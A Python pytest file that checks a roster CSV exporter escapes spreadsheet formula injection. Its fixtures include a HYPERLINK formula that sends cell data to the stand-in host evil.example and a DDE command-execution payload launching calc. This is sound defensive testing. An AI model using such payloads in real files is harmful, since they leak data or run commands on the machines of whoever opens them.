"""roster.csv: no cell a spreadsheet would run as a formula (OWASP CSV injection)."""
from __future__ import annotations

import csv

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from converter.imports.roster import COLUMNS, FORMULA_LEADS, csv_bytes, roster_frame, write_roster


def _row(name: str, player: str, sheet: str = "PC1") -> tuple:
    return ("old.xlsx", sheet, "pp", name, player, 0.9, 40, -5, 60, 1, 2, 3)


def _read(path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.DictReader(fh))


@pytest.mark.parametrize("lead", FORMULA_LEADS)
def test_every_formula_lead_is_quoted(tmp_path, lead: str) -> None:
    """A name, player or sheet starting with = + - @ tab or CR is written behind a leading '."""
    name = f'{lead}HYPERLINK("http://evil.example/?"&A1,"click")'
    frame = roster_frame([_row(name, lead + "cmd|' /C calc'!A0", lead + "1+1")])
    write_roster(frame, tmp_path)
    (row,) = _read(tmp_path / "roster.csv")
    assert row["name"] == "'" + name
    assert row["player"] == "'" + lead + "cmd|' /C calc'!A0"
    assert row["sheet"] == "'" + lead + "1+1"
    assert row["declared"] == "-5"  # a number's minus is its sign, not a formula


@settings(max_examples=60, deadline=None)
@given(st.text(min_size=1, max_size=12))
def test_no_written_text_cell_starts_a_formula(text: str) -> None:
    """Whatever the text, its CSV cell never starts with a formula lead, and the text is kept."""
    import io

    raw = csv_bytes(roster_frame([_row(text, "プレイヤー")])).decode("utf-8-sig")
    (row,) = list(csv.DictReader(io.StringIO(raw, newline="")))
    assert set(row) == set(COLUMNS)
    assert not row["name"].startswith(FORMULA_LEADS)
    assert row["name"] in (text, "'" + text)
    assert (row["name"] == "'" + text) == text.startswith(FORMULA_LEADS)
